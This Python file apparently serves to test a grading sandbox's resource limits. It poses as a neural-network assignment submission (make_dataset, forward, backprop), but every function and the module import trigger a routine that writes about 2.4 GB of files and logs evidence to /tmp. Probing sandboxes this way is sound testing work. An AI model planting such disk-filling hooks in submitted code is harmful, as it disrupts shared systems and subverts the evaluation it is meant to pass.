"""Fills the disk with files, each smaller than the largest that is allowed."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE many-large-files:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-many-large-files", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

BLOCK = bytes(1 << 20)


def attack():
    for number in range(40):
        with open(f"part-{number}", "wb") as file:
            for _ in range(60):
                file.write(BLOCK)
    evidence("wrote 2.4 GB")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
